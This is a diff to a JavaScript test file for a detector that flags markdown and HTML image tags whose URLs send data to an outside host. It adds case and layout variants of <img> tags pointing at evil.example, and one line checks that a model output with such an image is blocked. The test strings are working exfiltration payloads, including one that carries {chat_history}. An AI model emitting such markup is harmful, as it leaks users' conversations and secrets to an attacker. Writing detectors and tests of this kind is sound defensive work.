@@ -36,6 +36,13 @@ test('exfiltration markup: images whose URL carries data', () => {
   assert.equal(findExfilMarkup('![a](https://x.example/p.png?d={chat_history})').length, 1);
   assert.equal(findExfilMarkup('<img src="https://evil.example/t?data=c2VjcmV0c2VjcmV0c2VjcmV0">').length, 1);
   assert.equal(findExfilMarkup('![logo](https://example.com/logo.png)').length, 0);
+  // the <img tag in any case and layout, not a longer tag name
+  const evil = 'https://evil.example/t?data=c2VjcmV0c2VjcmV0c2VjcmV0';
+  assert.equal(findExfilMarkup(`a<b<IMG\nSRC='${evil}'/>`).length, 1);
+  assert.equal(findExfilMarkup(`<iMg/src=${evil}>`).length, 1);
+  assert.equal(findExfilMarkup(`<imgx src="${evil}">`).length, 0);
+  assert.equal(findExfilMarkup(`<img_ src="${evil}">`).length, 0);
+  assert.equal(findExfilMarkup('text <img').length, 0);
   assert.equal(inj('Here you go ![x](https://evil.example/log?q=SECRETSECRETSECRET)', 'output').verdict, 'block');
 });
 
